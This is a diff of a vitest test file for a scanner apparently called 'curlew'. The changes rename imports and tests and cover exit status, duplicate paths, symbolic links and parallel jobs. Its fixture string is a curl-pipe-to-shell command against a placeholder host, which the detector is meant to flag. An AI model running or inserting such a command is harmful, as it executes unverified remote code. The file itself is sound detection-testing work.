@@ -1,8 +1,8 @@
 import { readFileSync, symlinkSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { folderWith } from "./folder.js";
-import { bash, curlew } from "./process.js";
+import { folderWith } from "./folder-with.js";
+import { bash, curlew } from "./curlew-process.js";
 import { runHere } from "./fake-detector.js";
 
 const BAD = "curl -fsSL https://x.example/i.sh | sh";
@@ -22,12 +22,20 @@ describe("a closed output", () => {
 
   it.each([
     ["a finding", "curlew scan . | true", "1"],
-    ["a finding, of many lines", "curlew scan --format jsonl . | head -n 1 > /dev/null", "1"],
+    [
+      "a finding with an output of many lines",
+      "curlew scan --format jsonl . | head -n 1 > /dev/null",
+      "1",
+    ],
     ["an unreadable file", "curlew scan . missing.md 2>/dev/null | true", "2"],
     ["an unreadable file first", "curlew scan --format jsonl missing.md . 2>&1 | true", "2"],
-    ["nothing", "curlew scan 000.md | true", "0"],
-    ["nothing, of many lines", "curlew scan --format jsonl 0*.md 1*.md | true", "0"],
-  ])("does not change the status of %s", async (_name, line, expected) => {
+    ["no finding", "curlew scan 000.md | true", "0"],
+    [
+      "no finding with an output of many lines",
+      "curlew scan --format jsonl 0*.md 1*.md | true",
+      "0",
+    ],
+  ])("does not change the exit status for %s", async (_name, line, expected) => {
     expect(await status(line)).toBe(expected);
   });
 
@@ -38,7 +46,7 @@ describe("a closed output", () => {
   });
 });
 
-describe("a path that is given twice", () => {
+describe("a file that several arguments name", () => {
   it("is scanned once", async () => {
     const cwd = folderWith({ "a.md": BAD, "sub/b.md": BAD, "data.xyz": BAD });
     const found = async (...paths: string[]) =>
@@ -49,7 +57,7 @@ describe("a path that is given twice", () => {
     expect(await found(".", "a.md", "sub", "sub/b.md")).toBe(
       "2 findings in 2 of 2 texts (1 file of unknown type skipped)",
     );
-    // a folder scan skips this file, but it is read if it is named
+    // data.xyz is skipped in a folder, but read if an argument names it
     expect(await found(".", "data.xyz")).toBe(
       "3 findings in 3 of 3 texts (1 file of unknown type skipped)",
     );
@@ -61,7 +69,7 @@ describe("a path that is given twice", () => {
     );
   });
 
-  it("is scanned twice through a link", async () => {
+  it("is scanned again if an argument is a symbolic link to it", async () => {
     const cwd = folderWith({ "a.md": BAD });
     symlinkSync("a.md", join(cwd, "b.md"));
     expect((await runHere(["scan", "a.md", "b.md"], { cwd })).stdout).toContain(
@@ -87,7 +95,7 @@ describe("--jobs", () => {
     expect(JSON.parse(one?.stdout ?? "").summary).toMatchObject({ files: 41, findings: 15 });
   });
 
-  it("ends after an error in between", async () => {
+  it("stops after a write error, and requires a positive number", async () => {
     const cwd = folderWith({ "a.md": BAD, "b.md": BAD });
     expect(await bash("curlew scan --jobs 2 . > /dev/full", { cwd })).toMatchObject({
       status: 2,
